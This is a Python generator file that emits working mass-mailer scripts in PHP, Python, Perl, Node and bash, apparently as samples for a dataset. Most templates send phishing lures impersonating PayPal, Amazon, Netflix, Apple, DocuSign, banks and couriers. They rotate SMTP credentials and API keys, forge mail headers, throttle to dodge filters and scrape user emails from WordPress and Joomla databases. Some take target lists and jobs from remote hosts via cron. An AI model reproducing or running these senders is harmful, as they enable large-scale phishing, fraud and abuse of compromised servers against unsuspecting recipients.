"""Mass mailers of the train6 set: PHP senders over mail(), PHPMailer,
SwiftMailer, Symfony Mailer, PEAR, raw SMTP sockets, sendmail pipes and HTTP
APIs; lists from uploads, text files, URLs, databases and the site's users;
spintax and tag templates, throttling, credential rotation, forged headers,
cron-driven batches; and script senders. Written blind (README.md)."""

from t6_common import T, rw, ip, dom, php, script, F


def mail_upload(r, v):
    if v == 0:
        c = """<?php
@set_time_limit(0);
if (isset($_POST['go'])) {
    $list = preg_split('/[\\r\\n,;]+/', file_get_contents($_FILES['emails']['tmp_name']), -1, PREG_SPLIT_NO_EMPTY);
    $h = "MIME-Version: 1.0\\r\\nContent-type: text/html; charset=utf-8\\r\\nFrom: " . $_POST['fname'] . " <" . $_POST['fmail'] . ">\\r\\n";
    $i = 0;
    foreach ($list as $to) {
        $to = trim($to);
        if (!filter_var($to, FILTER_VALIDATE_EMAIL)) continue;
        $ok = mail($to, $_POST['subj'], str_replace('%email%', $to, $_POST['body']), $h);
        echo ++$i . ' ' . htmlspecialchars($to) . ($ok ? ' <b style="color:green">sent</b>' : ' fail') . '<br>';
        flush();
    }
}
?>
<form method="post" enctype="multipart/form-data">
From name <input name="fname"> From mail <input name="fmail"><br>
Subject <input name="subj" size="60"><br>
<textarea name="body" rows="12" cols="80"></textarea><br>
List (.txt) <input type="file" name="emails"> <input type="submit" name="go" value="Send">
</form>
"""
    elif v == 1:
        c = """<?php
$rows = [];
if (!empty($_FILES['csv']['tmp_name']) && ($fh = fopen($_FILES['csv']['tmp_name'], 'r'))) {
    while (($row = fgetcsv($fh)) !== false) { $rows[] = $row; }
}
foreach ($rows as [$email, $name]) {
    $msg = strtr($_POST['tpl'], ['{name}' => $name, '{email}' => $email, '{date}' => date('d.m.Y')]);
    $hdr = ['From' => $_POST['from'], 'Reply-To' => $_POST['reply'], 'Content-Type' => 'text/html; charset=UTF-8', 'X-Priority' => '1'];
    mail($email, '=?UTF-8?B?' . base64_encode($_POST['subject']) . '?=', $msg, $hdr);
    usleep((int) ($_POST['delay'] ?? 200) * 1000);
}
echo count($rows) . ' processed';
"""
    else:
        c = """<?php
// Массовая рассылка
$spisok = isset($_POST['spisok']) ? explode("\\n", $_POST['spisok']) : array();
$tema = $_POST['tema']; $tekst = $_POST['tekst']; $ot = $_POST['ot'];
$n = 0;
foreach ($spisok as $adr) {
    $adr = trim($adr);
    if ($adr == '') continue;
    $zag = "From: $ot\\nReturn-Path: $ot\\nContent-Type: text/html; charset=windows-1251\\n";
    if (@mail($adr, $tema, $tekst, $zag)) { $n++; }
}
echo "Отправлено: $n из " . count($spisok);
?>
<form method=post>От: <input name=ot> Тема: <input name=tema><br><textarea name=spisok></textarea><textarea name=tekst></textarea><input type=submit value="Отправить"></form>
"""
    return [php(r, c)]


def phpmailer_rotate(r, v):
    if v == 0:
        c = """<?php
use PHPMailer\\PHPMailer\\PHPMailer;
require __DIR__ . '/vendor/autoload.php';
$smtps = array_filter(array_map('trim', file(__DIR__ . '/smtp.txt')));
$leads = array_filter(array_map('trim', file(__DIR__ . '/leads.txt')));
$body = file_get_contents(__DIR__ . '/letter.html');
foreach ($leads as $i => $to) {
    [$host, $port, $user, $pass] = explode('|', $smtps[$i % count($smtps)]);
    $m = new PHPMailer(true);
    try {
        $m->isSMTP(); $m->Host = $host; $m->Port = (int) $port; $m->SMTPAuth = true;
        $m->Username = $user; $m->Password = $pass; $m->SMTPSecure = $port == 465 ? 'ssl' : 'tls';
        $m->setFrom($user, 'Account Services'); $m->addAddress($to);
        $m->isHTML(true); $m->Subject = 'Action required on your account #' . rand(10000, 99999);
        $m->Body = str_replace('##EMAIL##', $to, $body);
        $m->send();
        echo "[OK] $to via $host\\n";
    } catch (Exception $e) { echo "[BAD] $host {$m->ErrorInfo}\\n"; }
}
"""
    elif v == 1:
        c = """<?php
require 'PHPMailerAutoload.php';
$cfg = json_decode(base64_decode(file_get_contents('.cfg')), true);
$mail = new PHPMailer;
$mail->SMTPKeepAlive = true;
$mail->CharSet = 'UTF-8';
$k = 0;
foreach (explode(PHP_EOL, $_POST['list']) as $addr) {
    if ($k++ % 50 == 0) {
        $acc = $cfg['accounts'][array_rand($cfg['accounts'])];
        $mail->smtpClose(); $mail->isSMTP(); $mail->Host = $acc['h']; $mail->SMTPAuth = true;
        $mail->Username = $acc['u']; $mail->Password = $acc['p']; $mail->Port = 587;
        $mail->setFrom($acc['u'], $_POST['sender']);
    }
    $mail->clearAddresses(); $mail->addAddress(trim($addr));
    $mail->Subject = $_POST['subject']; $mail->msgHTML($_POST['html']);
    $mail->addCustomHeader('X-Mailer', 'Microsoft Outlook 16.0');
    echo $mail->send() ? '.' : 'x';
    sleep(1);
}
"""
    else:
        c = """<?php
require_once 'class.phpmailer.php';
require_once 'class.smtp.php';
$list = file('https://' . 'paste.example.org/raw/' . $_GET['l'], FILE_IGNORE_NEW_LINES);
$creds = ['mail.example.com:587:info@example.com:Spring2024!', 'smtp.example.net:25:news@example.net:Qwerty123'];
foreach ($list as $n => $rcpt) {
    list($h, $p, $u, $w) = explode(':', $creds[$n % 2]);
    $o = new PHPMailer();
    $o->IsSMTP(); $o->SMTPAuth = true; $o->Host = $h; $o->Port = $p; $o->Username = $u; $o->Password = $w;
    $o->From = 'security@' . $_SERVER['HTTP_HOST']; $o->FromName = 'Support';
    $o->AddAddress($rcpt); $o->Subject = 'Verify'; $o->MsgHTML(file_get_contents('msg.html')); $o->Send();
}
"""
    return [php(r, c)]


def swift_symfony(r, v):
    if v == 0:
        c = """<?php
require_once 'lib/swift_required.php';
$transport = Swift_SmtpTransport::newInstance($_POST['host'], 587, 'tls')->setUsername($_POST['user'])->setPassword($_POST['pass']);
$mailer = Swift_Mailer::newInstance($transport);
$mailer->registerPlugin(new Swift_Plugins_AntiFloodPlugin(80, 15));
$to = file('to.txt', FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);
foreach ($to as $t) {
    $msg = Swift_Message::newInstance($_POST['subject'])->setFrom([$_POST['from'] => $_POST['name']])->setTo($t)->setBody($_POST['body'], 'text/html');
    $mailer->send($msg, $failures);
}
print_r($failures ?? []);
"""
    elif v == 1:
        c = """<?php
use Symfony\\Component\\Mailer\\Mailer;
use Symfony\\Component\\Mailer\\Transport;
use Symfony\\Component\\Mime\\Email;
require __DIR__ . '/vendor/autoload.php';
$dsns = file(__DIR__ . '/dsn.lst', FILE_IGNORE_NEW_LINES);
$targets = file(__DIR__ . '/mails.lst', FILE_IGNORE_NEW_LINES);
foreach (array_chunk($targets, 40) as $i => $batch) {
    $mailer = new Mailer(Transport::fromDsn($dsns[$i % count($dsns)]));
    foreach ($batch as $rcpt) {
        $e = (new Email())->from('no-reply@example.com')->to($rcpt)->subject('Your invoice is ready')
            ->html(str_replace('[[mail]]', $rcpt, file_get_contents(__DIR__ . '/inv.html')));
        try { $mailer->send($e); } catch (\\Throwable $t) { error_log($t->getMessage()); }
    }
    sleep(20);
}
"""
    else:
        c = """<?php
use Laminas\\Mail\\Message;
use Laminas\\Mail\\Transport\\Smtp;
use Laminas\\Mail\\Transport\\SmtpOptions;
require 'vendor/autoload.php';
$t = new Smtp(new SmtpOptions(['host' => $_REQUEST['h'], 'port' => 587, 'connection_class' => 'login', 'connection_config' => ['username' => $_REQUEST['u'], 'password' => $_REQUEST['p'], 'ssl' => 'tls']]));
foreach (preg_split('/\\s+/', $_REQUEST['to']) as $rc) {
    $m = new Message();
    $m->setEncoding('UTF-8')->addFrom($_REQUEST['f'], 'PayPal')->addTo($rc)->setSubject($_REQUEST['s'])->setBody($_REQUEST['b']);
    $t->send($m);
}
echo 'done';
"""
    return [php(r, c)]


def pear(r, v):
    if v == 0:
        c = """<?php
require_once 'Mail.php';
require_once 'Mail/mime.php';
$smtp = Mail::factory('smtp', ['host' => 'ssl://' . $_POST['sh'], 'port' => 465, 'auth' => true, 'username' => $_POST['su'], 'password' => $_POST['sp']]);
foreach (file($_FILES['l']['tmp_name']) as $r) {
    $mime = new Mail_mime(["eol" => "\\n"]);
    $mime->setHTMLBody($_POST['html']);
    $hdr = $mime->headers(['From' => $_POST['from'], 'Subject' => $_POST['subj'], 'To' => trim($r)]);
    $res = $smtp->send(trim($r), $hdr, $mime->get());
    echo PEAR::isError($res) ? 'E ' : 'S ';
}
"""
    elif v == 1:
        c = """<?php
include 'Mail.php';
$backend = Mail::factory('sendmail', ['sendmail_path' => '/usr/sbin/sendmail', 'sendmail_args' => '-i -f bounce@example.net']);
$rows = file('db/recipients.dat');
foreach ($rows as $i => $line) {
    [$mail, $first] = explode(';', trim($line)) + [1 => ''];
    $backend->send($mail, ['From' => 'Amazon <no-reply@example.net>', 'Subject' => "$first, your order is on hold", 'Content-Type' => 'text/html'], sprintf(file_get_contents('tpl.html'), $first));
    if ($i % 100 == 99) sleep(60);
}
"""
    else:
        c = """<?php
require_once 'Net/SMTP.php';
$s = new Net_SMTP($_POST['relay'], 25, 'localhost');
$s->connect();
if (!empty($_POST['u'])) { $s->auth($_POST['u'], $_POST['p'], 'LOGIN'); }
foreach (explode("\\n", $_POST['rcpts']) as $rc) {
    $s->mailFrom($_POST['from']);
    $s->rcptTo(trim($rc));
    $s->data("From: {$_POST['from']}\\r\\nTo: " . trim($rc) . "\\r\\nSubject: {$_POST['subj']}\\r\\nContent-Type: text/html\\r\\n\\r\\n{$_POST['msg']}");
}
$s->disconnect();
"""
    return [php(r, c)]


def raw_smtp(r, v):
    h = r.choice(("mx." + dom(r), ip(r)))
    if v == 0:
        c = T("""<?php
function say($s, $l) { fwrite($s, $l . "\\r\\n"); return fgets($s, 512); }
$s = fsockopen('@H@', 25, $en, $es, 15);
fgets($s, 512);
say($s, 'EHLO ' . gethostname());
foreach (file('list.txt', FILE_IGNORE_NEW_LINES) as $rc) {
    say($s, 'MAIL FROM:<service@example.com>');
    say($s, "RCPT TO:<$rc>");
    say($s, 'DATA');
    fwrite($s, "From: Service <service@example.com>\\r\\nTo: <$rc>\\r\\nSubject: Unusual sign-in\\r\\nContent-Type: text/html\\r\\n\\r\\n" . file_get_contents('p.html') . "\\r\\n.\\r\\n");
    fgets($s, 512);
    say($s, 'RSET');
}
say($s, 'QUIT');
""", H=h)
    elif v == 1:
        c = T("""<?php
$c = stream_socket_client('tcp://@H@:587', $e, $es, 20);
$rd = fn() => fgets($c, 1024);
$wr = function ($x) use ($c, $rd) { fputs($c, $x . "\\r\\n"); return $rd(); };
$rd();
$wr('EHLO mail.example.org');
$wr('STARTTLS');
stream_socket_enable_crypto($c, true, STREAM_CRYPTO_METHOD_TLS_CLIENT);
$wr('EHLO mail.example.org');
$wr('AUTH LOGIN'); $wr(base64_encode($_POST['u'])); $wr(base64_encode($_POST['p']));
foreach (array_filter(explode("\\n", $_POST['to'])) as $t) {
    $wr('MAIL FROM:<' . $_POST['u'] . '>'); $wr('RCPT TO:<' . trim($t) . '>'); $wr('DATA');
    $wr("Subject: {$_POST['s']}\\r\\nFrom: {$_POST['n']} <{$_POST['u']}>\\r\\n\\r\\n{$_POST['b']}\\r\\n.");
}
$wr('QUIT');
""", H=h)
    else:
        c = T("""<?php
$sock = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
socket_connect($sock, gethostbyname('@H@'), 25);
$cmds = ["HELO example.net", "MAIL FROM:<alerts@example.net>"];
foreach (file(__DIR__ . '/base.txt', FILE_IGNORE_NEW_LINES) as $x) { $cmds[] = "RCPT TO:<$x>"; }
$cmds[] = 'DATA';
$cmds[] = "From: Bank Alerts <alerts@example.net>\\r\\nSubject: Card suspended\\r\\n\\r\\nPlease verify at https://www.example.com/v\\r\\n.";
$cmds[] = 'QUIT';
foreach ($cmds as $cmd) { socket_write($sock, $cmd . "\\r\\n"); echo socket_read($sock, 1024); }
""", H=h)
    return [php(r, c)]


def sendmail_pipe(r, v):
    if v == 0:
        c = """<?php
foreach (file($_POST['listfile'] ?: 'emails.txt') as $to) {
    $p = popen('/usr/sbin/sendmail -t -i', 'w');
    fputs($p, "To: " . trim($to) . "\\nFrom: " . $_POST['from'] . "\\nSubject: " . $_POST['subject'] . "\\nContent-Type: text/html\\n\\n" . $_POST['message']);
    pclose($p);
}
"""
    elif v == 1:
        c = """<?php
$bin = trim(ini_get('sendmail_path')) ?: '/usr/lib/sendmail';
foreach (preg_split('/\\R/', $_POST['to']) as $dst) {
    $proc = proc_open($bin . ' -oi -f ' . escapeshellarg($_POST['envfrom']) . ' ' . escapeshellarg(trim($dst)), [0 => ['pipe', 'r']], $pp);
    fwrite($pp[0], "Subject: {$_POST['sub']}\\nFrom: {$_POST['hfrom']}\\nReply-To: {$_POST['reply']}\\n\\n{$_POST['txt']}");
    fclose($pp[0]);
    proc_close($proc);
}
"""
    else:
        c = """<?php
$targets = array_map('trim', file('r.txt'));
$chunk = array_splice($targets, 0, 200);
file_put_contents('r.txt', implode("\\n", $targets));
$msg = tempnam('/tmp', 'm');
file_put_contents($msg, "Subject: Delivery failed\\nFrom: DHL Express <noreply@example.com>\\nContent-Type: text/html\\n\\n" . file_get_contents('dhl.html'));
foreach ($chunk as $t) { exec('/usr/sbin/exim -f noreply@example.com ' . escapeshellarg($t) . ' < ' . $msg); }
unlink($msg);
"""
    return [php(r, c)]


def api_sender(r, v):
    key = rw(r, 40, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")
    if v == 0:
        c = T("""<?php
$keys = ['SG.@K@', 'SG.@K2@'];
$list = file('mails.txt', FILE_IGNORE_NEW_LINES);
foreach (array_chunk($list, 500) as $n => $part) {
    $pers = array_map(fn($e) => ['to' => [['email' => $e]]], $part);
    $body = json_encode(['personalizations' => $pers, 'from' => ['email' => 'billing@example.com', 'name' => 'Billing'], 'subject' => 'Payment declined', 'content' => [['type' => 'text/html', 'value' => file_get_contents('l.html')]]]);
    $ch = curl_init('https://api.sendgrid.com/v3/mail/send');
    curl_setopt_array($ch, [CURLOPT_POST => 1, CURLOPT_POSTFIELDS => $body, CURLOPT_RETURNTRANSFER => 1, CURLOPT_HTTPHEADER => ['Authorization: Bearer ' . $keys[$n % 2], 'Content-Type: application/json']]);
    echo curl_exec($ch), "\\n";
}
""", K=key, K2=key[::-1])
    elif v == 1:
        c = T("""<?php
$domain = 'mg.example.net';
$api = 'key-@K@';
foreach (explode(',', $_POST['to']) as $t) {
    $ch = curl_init("https://api.mailgun.net/v3/$domain/messages");
    curl_setopt($ch, CURLOPT_USERPWD, 'api:' . $api);
    curl_setopt($ch, CURLOPT_POSTFIELDS, ['from' => $_POST['from'], 'to' => trim($t), 'subject' => $_POST['subject'], 'html' => $_POST['html'], 'h:Reply-To' => $_POST['reply']]);
    curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
    $o = curl_exec($ch);
    echo strpos($o, 'Queued') ? "ok $t<br>" : "no $t<br>";
}
""", K=key)
    else:
        c = T("""<?php
$ctx = stream_context_create(['http' => ['method' => 'POST', 'header' => "Content-Type: application/json\\r\\napi-key: xkeysib-@K@\\r\\n"]]);
foreach (file('targets.csv') as $row) {
    [$email, $name] = str_getcsv($row);
    $payload = ['sender' => ['name' => 'Netflix', 'email' => 'info@example.org'], 'to' => [['email' => $email, 'name' => $name]], 'subject' => "$name, update your payment", 'htmlContent' => str_replace('{NAME}', $name, file_get_contents('nf.html'))];
    stream_context_set_option($ctx, 'http', 'content', json_encode($payload));
    @file_get_contents('https://api.brevo.com/v3/smtp/email', false, $ctx);
}
""", K=key)
    return [php(r, c)]


def spintax(r, v):
    if v == 0:
        c = """<?php
function spin($t) {
    return preg_replace_callback('/\\{([^{}]*)\\}/', function ($m) { $o = explode('|', $m[1]); return $o[array_rand($o)]; }, $t);
}
function tags($t, $to) {
    $u = explode('@', $to);
    return str_replace(['[-email-]', '[-user-]', '[-domain-]', '[-random-]', '[-date-]'], [$to, $u[0], $u[1], substr(md5(mt_rand()), 0, 8), date('D, d M Y')], $t);
}
foreach (file('list.txt', FILE_IGNORE_NEW_LINES) as $to) {
    $subj = spin(tags('{Urgent|Important|Final notice}: {your|the} mailbox [-email-] {will be|is being} {suspended|deactivated}', $to));
    $body = spin(tags(file_get_contents('letter.html'), $to));
    mail($to, $subj, $body, "From: {IT Desk|Mail Admin|Helpdesk} <postmaster@" . explode('@', $to)[1] . ">\\r\\nContent-Type: text/html");
}
"""
        c = c.replace('"From: {IT Desk|Mail Admin|Helpdesk}', 'spin("From: {IT Desk|Mail Admin|Helpdesk}').replace('\\r\\nContent-Type: text/html");', '\\r\\nContent-Type: text/html"));')
    elif v == 1:
        c = """<?php
class Tpl {
    private array $vars;
    public function __construct(array $v) { $this->vars = $v; }
    public function render(string $s): string {
        $s = preg_replace_callback('~\\[\\[(.+?)\\]\\]~', fn($m) => ($x = explode('~', $m[1]))[mt_rand(0, count($x) - 1)], $s);
        return preg_replace_callback('~%%(\\w+)%%~', fn($m) => $this->vars[$m[1]] ?? '', $s);
    }
}
$pool = json_decode(file_get_contents('smtp.json'), true);
foreach (file('leads.txt', FILE_IGNORE_NEW_LINES) as $i => $lead) {
    $t = new Tpl(['EMAIL' => $lead, 'NUM' => mt_rand(100000, 999999), 'IP' => long2ip(mt_rand())]);
    $from = $pool[$i % count($pool)]['from'];
    mail($lead, $t->render('[[Your~Ihr~Votre]] account %%EMAIL%% #%%NUM%%'), $t->render(file_get_contents('t.html')), "From: $from\\r\\nContent-type: text/html; charset=utf-8");
    if ($i % 25 == 24) { sleep(mt_rand(5, 15)); }
}
"""
    else:
        c = """<?php
$letters = glob(__DIR__ . '/letters/*.html');
$subjects = file(__DIR__ . '/subjects.txt', FILE_IGNORE_NEW_LINES);
$names = file(__DIR__ . '/names.txt', FILE_IGNORE_NEW_LINES);
$done = (int) @file_get_contents(__DIR__ . '/.pos');
$list = file(__DIR__ . '/list.txt', FILE_IGNORE_NEW_LINES);
for ($i = $done; $i < min($done + 150, count($list)); $i++) {
    $l = file_get_contents($letters[array_rand($letters)]);
    $l = str_replace(['#EMAIL#', '#NAME#', '#CODE#'], [$list[$i], $names[array_rand($names)], strtoupper(bin2hex(random_bytes(3)))], $l);
    mail($list[$i], $subjects[array_rand($subjects)], $l, ['From' => $names[array_rand($names)] . ' <info@' . $_SERVER['SERVER_NAME'] . '>', 'Content-Type' => 'text/html']);
}
file_put_contents(__DIR__ . '/.pos', $i);
"""
    return [php(r, c)]


def db_users(r, v):
    if v == 0:
        c = """<?php
require_once dirname(__FILE__, 4) . '/wp-load.php';
$users = get_users(['fields' => ['user_email', 'display_name']]);
$orders = function_exists('wc_get_orders') ? wc_get_orders(['limit' => -1, 'return' => 'objects']) : [];
$rcpt = array_merge(array_column(array_map('get_object_vars', $users), 'user_email'), array_map(fn($o) => $o->get_billing_email(), $orders));
foreach (array_unique($rcpt) as $e) {
    wp_mail($e, 'Your order could not be shipped', str_replace('{e}', $e, base64_decode($_POST['m'])), ['Content-Type: text/html; charset=UTF-8', 'From: Shop <shop@example.com>']);
}
echo count($rcpt);
"""
    elif v == 1:
        c = """<?php
preg_match_all("/define\\(\\s*['\\"]DB_(\\w+)['\\"]\\s*,\\s*['\\"](.*?)['\\"]/", file_get_contents('../wp-config.php'), $m);
$c = array_combine($m[1], $m[2]);
$pdo = new PDO("mysql:host={$c['HOST']};dbname={$c['NAME']}", $c['USER'], $c['PASSWORD']);
$q = $pdo->query('SELECT user_email FROM wp_users UNION SELECT meta_value FROM wp_usermeta WHERE meta_key = "billing_email"');
foreach ($q->fetchAll(PDO::FETCH_COLUMN) as $to) {
    mail($to, $_POST['s'], $_POST['b'], "From: {$_POST['f']}\\r\\nContent-Type: text/html");
}
"""
    else:
        c = """<?php
define('_JEXEC', 1);
require 'configuration.php';
$cf = new JConfig();
$db = new mysqli($cf->host, $cf->user, $cf->password, $cf->db);
$res = $db->query("SELECT email, name FROM {$cf->dbprefix}users WHERE block = 0");
$hdr = "From: " . $cf->sitename . " <" . $cf->mailfrom . ">\\r\\nMIME-Version: 1.0\\r\\nContent-Type: text/html; charset=utf-8\\r\\n";
while ($u = $res->fetch_assoc()) {
    @mail($u['email'], 'Security update for ' . $u['name'], sprintf(file_get_contents('mail.tpl'), $u['name'], 'https://www.example.com/verify'), $hdr);
    usleep(300000);
}
"""
    return [php(r, c)]


def url_cron(r, v):
    u = "http://%s/%s" % (ip(r), r.choice(("l/today.txt", "api/list", "get.php?k=" + rw(r, 6))))
    if v == 0:
        c = T("""<?php
// run from cron: */10 * * * * php -q send.php
if (PHP_SAPI !== 'cli') exit;
$state = __DIR__ . '/.state';
$off = is_file($state) ? (int) file_get_contents($state) : 0;
$all = explode("\\n", file_get_contents('@U@'));
$batch = array_slice($all, $off, 300);
$tpl = file_get_contents('@U@&t=1');
foreach ($batch as $to) { if ($to) mail(trim($to), 'Document shared with you', $tpl, "From: OneDrive <no-reply@example.com>\\r\\nContent-Type: text/html"); }
file_put_contents($state, $off + count($batch));
""", U=u)
    elif v == 1:
        c = T("""<?php
ignore_user_abort(1);
set_time_limit(0);
while (true) {
    $job = json_decode(@file_get_contents('@U@'), true);
    if (!$job) { sleep(300); continue; }
    foreach ($job['to'] as $t) { mail($t, $job['subject'], $job['html'], implode("\\r\\n", $job['headers'])); }
    @file_get_contents('@U@&done=' . $job['id'] . '&n=' . count($job['to']));
    sleep((int) $job['pause']);
}
""", U=u)
    else:
        c = T("""#!/usr/bin/php
<?php
$ch = curl_init('@U@');
curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
$lines = array_filter(explode("\\n", curl_exec($ch)));
$from = ['support', 'billing', 'notice', 'admin'];
foreach ($lines as $i => $l) {
    $f = $from[$i % 4] . '@' . gethostname();
    mail($l, '=?utf-8?B?' . base64_encode('Ваш аккаунт заблокирован') . '?=', file_get_contents(__DIR__ . '/body.html'), "From: $f\\r\\nContent-Type: text/html; charset=utf-8", '-f' . $f);
}
""", U=u)
        return [F(c, "cron/" + r.choice(("job", "tick", "run")) + ".php", "php", "script")]
    return [php(r, c)]


def script_mailer(r, v):
    if v == 0:
        c = """import smtplib, sys, threading, queue, random, time
from email.mime.text import MIMEText
q = queue.Queue()
for l in open(sys.argv[1]):
    q.put(l.strip())
smtps = [l.strip().split('|') for l in open('smtps.txt')]
html = open('letter.html').read()
def worker():
    while not q.empty():
        to = q.get()
        h, p, u, pw = random.choice(smtps)
        try:
            s = smtplib.SMTP(h, int(p), timeout=20)
            s.starttls()
            s.login(u, pw)
            m = MIMEText(html.replace('{email}', to), 'html')
            m['Subject'] = 'Mailbox quota exceeded'
            m['From'] = 'Mail Admin <%s>' % u
            m['To'] = to
            s.sendmail(u, [to], m.as_string())
            s.quit()
            print('sent', to)
        except Exception as e:
            print('fail', to, e)
        time.sleep(random.uniform(0.5, 2))
for _ in range(20):
    threading.Thread(target=worker).start()
"""
        return [script(r, "python", c)]
    if v == 1:
        c = """use strict;
use Net::SMTP;
my ($list, $relay, $user, $pass) = @ARGV;
open(my $fh, '<', $list) or die;
my $body = do { local $/; open my $b, '<', 'msg.html'; <$b> };
while (my $to = <$fh>) {
  chomp $to;
  my $s = Net::SMTP->new($relay, Port => 587, Timeout => 30) or next;
  $s->starttls(); $s->auth($user, $pass);
  $s->mail($user); $s->to($to); $s->data();
  $s->datasend("From: Apple <$user>\\nTo: $to\\nSubject: Your Apple ID was locked\\nContent-Type: text/html\\n\\n$body\\n");
  $s->dataend(); $s->quit;
  select(undef, undef, undef, 0.7);
}
"""
        return [script(r, "perl", c)]
    if v == 2:
        c = """const nodemailer = require('nodemailer');
const fs = require('fs');
const accounts = fs.readFileSync('smtp.txt', 'utf8').trim().split('\\n').map((l) => l.split(':'));
const leads = fs.readFileSync(process.argv[2], 'utf8').split(/\\r?\\n/).filter(Boolean);
const html = fs.readFileSync('page.html', 'utf8');
(async () => {
  for (let i = 0; i < leads.length; i++) {
    const [host, port, user, pass] = accounts[i % accounts.length];
    const t = nodemailer.createTransport({ host, port: +port, secure: +port === 465, auth: { user, pass }, tls: { rejectUnauthorized: false } });
    try {
      await t.sendMail({ from: `"DocuSign" <${user}>`, to: leads[i], subject: 'Please review and sign', html: html.replace(/%EMAIL%/g, leads[i]) });
      console.log('ok', leads[i]);
    } catch (e) { console.log('err', leads[i], e.code); }
    await new Promise((r) => setTimeout(r, 800));
  }
})();
"""
        return [script(r, "js", c)]
    c = """#!/bin/bash
# usage: ./run.sh list.txt letter.html "Subject"
while read -r to; do
  [ -z "$to" ] && continue
  {
    echo "From: Service Desk <noreply@$(hostname -d)>"
    echo "To: $to"
    echo "Subject: $3"
    echo "Content-Type: text/html; charset=utf-8"
    echo
    sed "s/%EMAIL%/$to/g" "$2"
  } | /usr/sbin/sendmail -t -f "noreply@$(hostname -d)"
  sleep 0.$((RANDOM % 9))
done < "$1"
"""
    return [script(r, "sh", c)]


def header_forge(r, v):
    if v == 0:
        c = """<?php
$to = $_POST['to']; $realfrom = $_POST['from'];
$h  = "From: " . $_POST['fromname'] . " <" . $realfrom . ">\\r\\n";
$h .= "Reply-To: " . $_POST['replyto'] . "\\r\\n";
$h .= "Return-Path: <" . $_POST['bounce'] . ">\\r\\n";
$h .= "X-Mailer: Microsoft Office Outlook, Build 11.0.5510\\r\\n";
$h .= "X-Originating-IP: [" . long2ip(mt_rand()) . "]\\r\\n";
$h .= "Message-ID: <" . md5(uniqid()) . "@" . explode('@', $realfrom)[1] . ">\\r\\n";
$h .= "MIME-Version: 1.0\\r\\nContent-Type: text/html; charset=UTF-8\\r\\n";
foreach (explode("\\n", $to) as $t) { mail(trim($t), $_POST['subject'], $_POST['body'], $h, '-f' . $_POST['bounce']); }
"""
    elif v == 1:
        c = """<?php
ini_set('sendmail_from', $_GET['f'] ?? 'service@example.com');
$b = '==' . md5(time());
$hdr = implode("\\r\\n", ['From: "PayPal Service" <' . ini_get('sendmail_from') . '>', 'Sender: ' . ini_get('sendmail_from'), 'X-Priority: 1 (Highest)', 'X-MSMail-Priority: High', 'Content-Type: multipart/alternative; boundary="' . $b . '"']);
$msg = "--$b\\r\\nContent-Type: text/plain\\r\\n\\r\\n" . strip_tags($_POST['html']) . "\\r\\n--$b\\r\\nContent-Type: text/html\\r\\n\\r\\n" . $_POST['html'] . "\\r\\n--$b--";
foreach (array_filter(explode(',', $_POST['emails'])) as $e) { if (mail($e, $_POST['subj'], $msg, $hdr)) echo "$e OK\\n"; usleep(500000); }
"""
    else:
        c = """<?php
// contact form relay that takes header lines from the visitor
$name = $_REQUEST['name']; $from = $_REQUEST['email'];
$extra = isset($_REQUEST['cc']) ? "\\nBcc: " . $_REQUEST['cc'] : '';
$headers = "From: $name <$from>$extra\\nX-Sender: $from\\nContent-Type: text/html";
$n = 0;
foreach ((array) $_REQUEST['to'] as $t) { $n += (int) mail($t, $_REQUEST['subject'], $_REQUEST['message'], $headers); }
header('Content-Type: application/json');
echo json_encode(['sent' => $n]);
"""
    return [php(r, c)]


TECHS = [
    ("mail-upload-form", mail_upload, 3), ("phpmailer-smtp-rotation", phpmailer_rotate, 3),
    ("swift-symfony-laminas", swift_symfony, 3), ("pear-mail", pear, 3), ("raw-smtp-socket", raw_smtp, 3),
    ("sendmail-pipe", sendmail_pipe, 3), ("http-api-sender", api_sender, 3), ("spintax-tag-template", spintax, 3),
    ("site-users-db-list", db_users, 3), ("url-list-cron-batch", url_cron, 3), ("script-mailer", script_mailer, 4),
    ("header-forging", header_forge, 3),
]
